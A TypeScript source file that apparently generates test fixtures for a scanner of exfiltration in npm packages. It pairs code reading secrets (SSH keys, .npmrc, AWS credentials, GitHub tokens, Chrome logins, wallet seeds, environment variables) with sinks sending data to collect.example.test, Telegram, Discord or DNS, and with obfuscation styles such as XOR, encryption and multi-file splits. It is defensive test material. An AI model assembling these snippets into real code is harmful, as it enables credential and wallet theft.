/**
 * Ways to write that data are sent: where they come from, how they get to the call that sends them, and which that is.
 * Each is code that is read and never run.
 */
/** Data with what comes before the expression for them, and the sign that sending them is. */
export interface Source {
  readonly before: string;
  readonly data: string;
  readonly sign: string;
}

export const SOURCES: Readonly<Record<string, Source>> = {
  env: { before: '', data: 'process.env', sign: 'sends-environment' },
  envImp: { before: "const { env } = require('node:process');", data: 'env', sign: 'sends-environment' },
  npmrc: {
    before: "const fs = require('fs'), os = require('os'), path = require('path');",
    data: "fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8')",
    sign: 'sends-credentials',
  },
  ssh: {
    before: "const { readFileSync } = require('fs'); const { homedir } = require('os');",
    data: "readFileSync(homedir() + '/.ssh/id_rsa')",
    sign: 'sends-credentials',
  },
  aws: {
    before:
      "const fs = require('fs'), os = require('os'), path = require('path'); const dir = ['.aws', 'credentials'];",
    data: 'fs.readFileSync(path.resolve(os.homedir(), ...dir))',
    sign: 'sends-credentials',
  },
  ghtoken: {
    before: "const cp = require('child_process');",
    data: "cp.execSync('gh auth token').toString().trim()",
    sign: 'sends-credentials',
  },
  gitcred: {
    before: "const cp = require('child_process');",
    data: "cp.spawnSync('git', ['credential', 'fill'], { input: 'host=github.com' }).stdout.toString()",
    sign: 'sends-credentials',
  },
  keychain: {
    before: "const cp = require('child_process');",
    data: "cp.execFileSync('security', ['find-generic-password', '-wa', 'Chrome'])",
    sign: 'sends-credentials',
  },
  chrome: {
    before: "const fs = require('fs'), os = require('os'), path = require('path');",
    data: "fs.readFileSync(path.join(os.homedir(), 'Library', 'Application Support', 'Google', 'Chrome', 'Default', 'Login Data'))",
    sign: 'sends-credentials',
  },
  wallet: {
    before: "const fs = require('fs'), path = require('path');",
    data: "fs.readFileSync(path.join(process.env.APPDATA, 'Exodus', 'exodus.wallet', 'seed.seco'))",
    sign: 'sends-credentials',
  },
  clip: {
    before: "const cp = require('child_process');",
    data: "cp.execSync('pbpaste').toString()",
    sign: 'sends-clipboard',
  },
  machine: {
    before: "const os = require('os');",
    data: '{ h: os.hostname(), u: os.userInfo().username }',
    sign: 'sends-machine',
  },
  whoami: {
    before: "const cp = require('child_process');",
    data: "cp.execSync('whoami').toString()",
    sign: 'sends-machine',
  },
  env4: {
    before: '',
    data: 'Object.fromEntries(Object.entries(process.env).filter(([k]) => /TOKEN|KEY|SECRET/.test(k)))',
    sign: 'sends-environment',
  },
};

/** Code that sends the data of an expression. */
export const SINKS: Readonly<Record<string, (data: string) => string>> = {
  httpsRequest: (data) =>
    `const r = require('https').request({ hostname: 'collect.example.test', method: 'POST', path: '/' }); r.write(String(${data})); r.end();`,
  httpsEnd: (data) =>
    `require('https').request('https://collect.example.test', { method: 'POST' }, () => {}).end(JSON.stringify(${data}));`,
  httpsGet: (data) =>
    `require('https').get('https://collect.example.test/?q=' + encodeURIComponent(JSON.stringify(${data})));`,
  fetch: (data) =>
    `fetch('https://collect.example.test', { method: 'POST', body: JSON.stringify(${data}) });`,
  fetchHdr: (data) =>
    `fetch('https://collect.example.test', { headers: { 'x-data': Buffer.from(JSON.stringify(${data})).toString('base64') } });`,
  globalFetch: (data) =>
    `globalThis['fetch']('https://collect.example.test', { method: 'POST', body: ${data} });`,
  axios: (data) => `require('axios').post('https://collect.example.test', ${data});`,
  axiosCreate: (data) =>
    `const c = require('axios').create({ baseURL: 'https://collect.example.test' }); c.post('/x', ${data});`,
  got: (data) => `require('got').post('https://collect.example.test', { json: ${data} });`,
  undici: (data) =>
    `const { request } = require('undici'); request('https://collect.example.test', { method: 'POST', body: String(${data}) });`,
  undiciClient: (data) =>
    `const { Client } = require('undici'); const c = new Client('https://collect.example.test'); c.request({ path: '/', method: 'POST', body: String(${data}) });`,
  net: (data) =>
    `const s = require('net').connect(443, 'collect.example.test', () => { s.write(String(${data})); s.end(); });`,
  netSock: (data) =>
    `const s = new (require('net').Socket)(); s.connect(443, 'collect.example.test'); s.write(String(${data}));`,
  tls: (data) =>
    `const s = require('tls').connect(443, 'collect.example.test'); s.on('secureConnect', () => s.end(String(${data})));`,
  dns: (data) =>
    `require('dns').resolve(Buffer.from(String(${data})).toString('hex').slice(0, 60) + '.collect.example.test', () => {});`,
  dnsLoop: (data) =>
    `const hex = Buffer.from(JSON.stringify(${data})).toString('hex'); for (let i = 0; i < hex.length; i += 60) require('dns').lookup(hex.slice(i, i + 60) + '.collect.example.test', () => {});`,
  dgram: (data) =>
    `const s = require('dgram').createSocket('udp4'); const b = Buffer.from(String(${data})); s.send(b, 0, b.length, 53, 'collect.example.test');`,
  ws: (data) =>
    `const WebSocket = require('ws'); const w = new WebSocket('wss://collect.example.test'); w.on('open', () => w.send(JSON.stringify(${data})));`,
  wsGlobal: (data) =>
    `const w = new WebSocket('wss://collect.example.test'); w.onopen = () => { w.send(JSON.stringify(${data})); };`,
  http2: (data) =>
    `const c = require('http2').connect('https://collect.example.test'); const r = c.request({ ':method': 'POST', ':path': '/' }); r.write(String(${data})); r.end();`,
  curl: (data) =>
    `require('child_process').exec('curl -s -d "' + Buffer.from(String(${data})).toString('base64') + '" https://collect.example.test');`,
  curlArgs: (data) =>
    `require('child_process').execFile('curl', ['-X', 'POST', '-d', String(${data}), 'https://collect.example.test']);`,
  curlStdin: (data) =>
    `const c = require('child_process').spawn('curl', ['-d', '@-', 'https://collect.example.test']); c.stdin.write(String(${data})); c.stdin.end();`,
  curlInput: (data) =>
    `require('child_process').execSync('curl --data-binary @- https://collect.example.test', { input: String(${data}) });`,
  telegram: (data) =>
    `fetch('https://api.telegram.org/bot123456:ABC/sendMessage', { method: 'POST', body: JSON.stringify({ chat_id: 1, text: ${data} }) });`,
  discord: (data) =>
    `require('axios').post('https://discord.com/api/webhooks/123/abc', { content: String(${data}) });`,
  githubApi: (data) =>
    `fetch('https://api.github.com/repos/x/y/contents/z', { method: 'PUT', headers: { authorization: 'token abc' }, body: JSON.stringify({ content: Buffer.from(String(${data})).toString('base64') }) });`,
  octokit: (data) =>
    `const { Octokit } = require('@octokit/rest'); const o = new Octokit({ auth: 'abc' }); o.repos.createOrUpdateFileContents({ owner: 'x', repo: 'y', path: 'z', content: Buffer.from(String(${data})).toString('base64') });`,
  octokitReq: (data) =>
    `const { Octokit } = require('@octokit/core'); const o = new Octokit({ auth: 'abc' }); o.request('POST /gists', { files: { a: { content: String(${data}) } } });`,
  mail: (data) =>
    `const t = require('nodemailer').createTransport({ host: 'smtp.example.test', auth: { user: 'a', pass: 'b' } }); t.sendMail({ to: 'a@example.test', text: String(${data}) });`,
  ftp: (data) =>
    `const F = require('ftp'); const c = new F(); c.on('ready', () => c.put(Buffer.from(String(${data})), 'x')); c.connect({ host: 'collect.example.test' });`,
  basicFtp: (data) =>
    `const { Client } = require('basic-ftp'); const c = new Client(); c.access({ host: 'collect.example.test' }).then(() => c.uploadFrom(require('stream').Readable.from([String(${data})]), 'x'));`,
  beacon: (data) => `navigator.sendBeacon('https://collect.example.test', JSON.stringify(${data}));`,
  xhr: (data) =>
    `const x = new XMLHttpRequest(); x.open('POST', 'https://collect.example.test'); x.send(JSON.stringify(${data}));`,
  pipe: (data) =>
    `const { Readable } = require('stream'); Readable.from([String(${data})]).pipe(require('https').request('https://collect.example.test', { method: 'POST' }));`,
  pipeline: (data) =>
    `const { pipeline, Readable } = require('stream'); pipeline(Readable.from([String(${data})]), require('https').request('https://collect.example.test', { method: 'POST' }), () => {});`,
  form: (data) =>
    `const FormData = require('form-data'); const f = new FormData(); f.append('file', String(${data})); f.submit('https://collect.example.test');`,
  formFetch: (data) =>
    `const f = new FormData(); f.append('file', String(${data})); fetch('https://collect.example.test', { method: 'POST', body: f });`,
  search: (data) =>
    `const u = new URL('https://collect.example.test'); u.searchParams.set('d', String(${data})); fetch(u);`,
  urlAssign: (data) =>
    `const u = new URL('https://collect.example.test'); u.search = '?d=' + String(${data}); fetch(u);`,
  request: (data) =>
    `fetch(new Request('https://collect.example.test', { method: 'POST', body: String(${data}) }));`,
  needle: (data) => `require('needle').post('https://collect.example.test', { d: ${data} }, () => {});`,
  superagent: (data) =>
    `require('superagent').post('https://collect.example.test').send({ d: ${data} }).end(() => {});`,
  mqtt: (data) =>
    `const m = require('mqtt').connect('mqtt://collect.example.test'); m.on('connect', () => m.publish('t', String(${data})));`,
};

/** Files in which data come to a sink in some way. */
type Style = (source: Source, sink: (data: string) => string) => Readonly<Record<string, string>>;
const one = (t: string) => ({ 'index.js': t });
export const STYLES: Readonly<Record<string, Style>> = {
  direct: (s, k) => one(`${s.before}\n${k(s.data.startsWith('{') ? `(${s.data})` : s.data)}`),
  variable: (s, k) => one(`${s.before}\nconst d = ${s.data};\n${k('d')}`),
  fnReturn: (s, k) =>
    one(
      `${s.before}\nfunction g() { const d = ${s.data}; return d; }\nfunction send(v) { ${k('v')} }\nsend(g());`,
    ),
  arrows: (s, k) =>
    one(`${s.before}\nconst g = () => (${s.data});\nconst send = (v) => { ${k('v')} };\nsend(g());`),
  async: (s, k) =>
    one(
      `${s.before}\nasync function g() { return ${s.data}; }\n(async () => { try { const d = await g(); ${k('d')} } catch {} })();`,
    ),
  chained: (s, k) =>
    one(`${s.before}\nPromise.resolve().then(() => (${s.data})).then((d) => { ${k('d')} }).catch(() => {});`),
  promise: (s, k) =>
    one(
      `${s.before}\nnew Promise((res) => { setTimeout(() => res(${s.data}), 10); }).then((d) => { ${k('d')} });`,
    ),
  callback: (s, k) =>
    one(`${s.before}\nfunction g(cb) { const d = ${s.data}; cb(null, d); }\ng((err, d) => { ${k('d')} });`),
  emitter: (s, k) =>
    one(
      `${s.before}\nconst E = require('events'); const e = new E(); e.on('x', (d) => { ${k('d')} });\ne.emit('x', ${s.data});`,
    ),
  classField: (s, k) =>
    one(`${s.before}\nclass A { data = ${s.data}; run() { ${k('this.data')} } }\nnew A().run();`),
  classCtor: (s, k) =>
    one(
      `${s.before}\nclass A { constructor() { this.d = ${s.data}; } run() { const d = this.d; ${k('d')} } }\nconst a = new A(); a.run();`,
    ),
  classPriv: (s, k) =>
    one(
      `${s.before}\nclass A { #d; load() { this.#d = ${s.data}; return this; } run() { ${k('this.#d')} } }\nnew A().load().run();`,
    ),
  classStatic: (s, k) =>
    one(
      `${s.before}\nclass A { static get() { return ${s.data}; } static run() { ${k('A.get()')} } }\nA.run();`,
    ),
  getter: (s, k) => one(`${s.before}\nconst o = { get d() { return ${s.data}; } };\n${k('o.d')}`),
  objMethod: (s, k) =>
    one(
      `${s.before}\nconst o = { g() { return ${s.data}; }, s(d) { ${k('d')} }, run() { this.s(this.g()); } };\no.run();`,
    ),
  objProp: (s, k) => one(`${s.before}\nconst o = {}; o.a = {}; o.a.b = ${s.data};\n${k('o.a.b')}`),
  objComputed: (s, k) =>
    one(`${s.before}\nconst o = {}; const key = 'k' + 1; o[key] = ${s.data};\n${k('o')}`),
  spread: (s, k) =>
    one(`${s.before}\nconst o = { t: 1, ...{ d: ${s.data} } };\nconst p = [...Object.values(o)];\n${k('p')}`),
  entries: (s, k) =>
    one(
      `${s.before}\nconst out = {}; for (const [a, b] of Object.entries({ d: ${s.data} })) { out[a] = b; }\n${k('out')}`,
    ),
  forEach: (s, k) =>
    one(`${s.before}\nconst out = []; [() => (${s.data})].forEach((f) => out.push(f()));\n${k('out')}`),
  mapFns: (s, k) => one(`${s.before}\nconst all = [1].map(() => (${s.data}));\n${k('all.join()')}`),
  map: (s, k) => one(`${s.before}\nconst m = new Map(); m.set('d', ${s.data});\n${k("m.get('d')")}`),
  destruct: (s, k) => one(`${s.before}\nconst { d: { e: [x] } } = { d: { e: [${s.data}] } };\n${k('x')}`),
  defParam: (s, k) => one(`${s.before}\nfunction send(v = ${s.data}) { ${k('v')} }\nsend();`),
  closure: (s, k) =>
    one(`${s.before}\nfunction mk(v) { return function () { ${k('v')} }; }\nconst f = mk(${s.data}); f();`),
  curry: (s, k) => one(`${s.before}\nconst mk = (a) => (b) => (c) => { ${k('b')} };\nmk(1)(${s.data})(2);`),
  reassign: (s, k) =>
    one(`${s.before}\nlet d; try { d = ${s.data}; } catch (e) { d = ''; }\nif (d) { ${k('d')} }`),
  comma: (s, k) => one(`${s.before}\nlet d; (0, d = ${s.data}, 1);\n${k('(0, d)')}`),
  iife: (s, k) =>
    one(`(function (root, data) { ${k('data()')} })(this, function () { ${s.before} return ${s.data}; });`),
  argumentsObj: (s, k) =>
    one(`${s.before}\nfunction send() { const d = arguments[0]; ${k('d')} }\nsend(${s.data});`),
  restArgs: (s, k) => one(`${s.before}\nfunction send(...all) { ${k('all[1]')} }\nsend(1, ${s.data});`),
  apply: (s, k) => one(`${s.before}\nfunction send(a, d) { ${k('d')} }\nsend.apply(null, [1, ${s.data}]);`),
  bind: (s, k) =>
    one(`${s.before}\nfunction send(d) { ${k('d')} }\nconst f = send.bind(null, ${s.data}); f();`),
  generator: (s, k) =>
    one(`${s.before}\nfunction* g() { yield ${s.data}; }\nfor (const d of g()) { ${k('d')} }`),
  proxy: (s, k) => one(`${s.before}\nconst o = new Proxy({ d: ${s.data} }, {});\n${k('o.d')}`),
  reflectApply: (s, k) =>
    one(`${s.before}\nfunction send(d) { ${k('d')} }\nReflect.apply(send, null, [${s.data}]);`),
  gzip: (s, k) =>
    one(
      `${s.before}\nconst z = require('zlib'); const d = z.gzipSync(Buffer.from(JSON.stringify(${s.data}))).toString('base64');\n${k('d')}`,
    ),
  cipher: (s, k) =>
    one(
      `${s.before}\nconst c = require('crypto').createCipheriv('aes-256-cbc', k1, iv); const d = c.update(JSON.stringify(${s.data}), 'utf8', 'hex') + c.final('hex');\n${k('d')}`,
    ),
  publicEnc: (s, k) =>
    one(
      `${s.before}\nconst d = require('crypto').publicEncrypt(PK, Buffer.from(JSON.stringify(${s.data}))).toString('base64');\n${k('d')}`,
    ),
  xor: (s, k) =>
    one(
      `${s.before}\nfunction x(t) { let o = ''; for (let i = 0; i < t.length; i++) o += String.fromCharCode(t.charCodeAt(i) ^ 7); return o; }\nconst d = x(JSON.stringify(${s.data}));\n${k('d')}`,
    ),
  xorBuf: (s, k) =>
    one(
      `${s.before}\nconst b = Buffer.from(JSON.stringify(${s.data})); for (let i = 0; i < b.length; i++) b[i] ^= 7;\n${k("b.toString('hex')")}`,
    ),
  chars: (s, k) =>
    one(
      `${s.before}\nconst d = [...JSON.stringify(${s.data})].map((c) => c.charCodeAt(0).toString(16)).join('-');\n${k('d')}`,
    ),
  chunks: (s, k) =>
    one(
      `${s.before}\nconst t = JSON.stringify(${s.data}); const parts = t.match(/.{1,50}/g) || [];\nfor (const p of parts) { ${k('p')} }`,
    ),
  recursion: (s, k) =>
    one(
      `${s.before}\nfunction send(list, i) { if (i >= list.length) return; ${k('list[i]')} send(list, i + 1); }\nsend([${s.data}], 0);`,
    ),
  reduce: (s, k) =>
    one(
      `${s.before}\nconst d = [() => (${s.data})].reduce((a, f) => { a.push(f()); return a; }, []);\n${k('d')}`,
    ),
  promiseAll: (s, k) =>
    one(`${s.before}\nPromise.all([1, Promise.resolve(${s.data})]).then(([a, d]) => { ${k('d')} });`),
  awaitAll: (s, k) =>
    one(
      `${s.before}\n(async () => { const [a, d] = await Promise.all([1, (async () => (${s.data}))()]); ${k('d')} })();`,
    ),
  settled: (s, k) =>
    one(
      `${s.before}\n(async () => { const rs = await Promise.allSettled([(async () => (${s.data}))()]); const d = rs.map((r) => r.value); ${k('d')} })();`,
    ),
  files: (s, k) => ({
    'index.js': `const { collect } = require('./lib/a'); const send = require('./lib/b'); send(collect());`,
    'lib/a.js': `${s.before}\nexports.collect = function () { return ${s.data}; };`,
    'lib/b.js': `module.exports = (d) => { ${k('d')} };`,
  }),
  filesIndex: (s, k) => ({
    'index.js': `const lib = require('./lib'); lib.send(lib.collect());`,
    'lib/index.js': `module.exports = { ...require('./a'), send: require('./b').default };`,
    'lib/a.js': `${s.before}\nmodule.exports.collect = () => (${s.data});`,
    'lib/b.js': `exports.default = function (d) { ${k('d')} };`,
  }),
  filesClass: (s, k) => ({
    'index.js': `const C = require('./lib/a'); const S = require('./lib/b'); new S(new C().collect()).go();`,
    'lib/a.js': `${s.before}\nmodule.exports = class { collect() { return ${s.data}; } };`,
    'lib/b.js': `module.exports = class S { constructor(d) { this.d = d; } go() { const d = this.d; ${k('d')} } };`,
  }),
  filesState: (s, k) => ({
    'index.js': `require('./lib/a'); require('./lib/b')();`,
    'lib/state.js': `module.exports = { d: null };`,
    'lib/a.js': `${s.before}\nconst st = require('./state'); st.d = ${s.data};`,
    'lib/b.js': `const st = require('./state'); module.exports = () => { const d = st.d; ${k('d')} };`,
  }),
  globalVar: (s, k) =>
    one(`${s.before}\nglobal.__d = ${s.data};\nsetTimeout(() => { ${k('global.__d')} }, 10);`),
  tempFile: (s, k) =>
    one(
      `${s.before}\nconst f = require('fs'); f.writeFileSync('/tmp/.x', JSON.stringify(${s.data}));\nconst d = f.readFileSync('/tmp/.x');\n${k('d')}`,
    ),
  switchCase: (s, k) =>
    one(
      `${s.before}\nlet i = 0, d; while (true) { switch (i++) { case 0: d = ${s.data}; continue; case 1: ${k('d')} continue; } break; }`,
    ),
  esm: (s, k) => ({
    'package.json': JSON.stringify({ name: 'demo', version: '1.0.0', main: 'index.js', type: 'module' }),
    'index.js': `import { collect } from './a.js'; import send from './b.js'; send(await collect());`,
    'a.js': `import { createRequire } from 'module'; const require = createRequire(import.meta.url); ${s.before}\nexport const collect = async () => (${s.data});`,
    'b.js': `import { createRequire } from 'node:module'; const require = createRequire(import.meta.url); export default async function (d) { ${k('d')} }`,
  }),
};
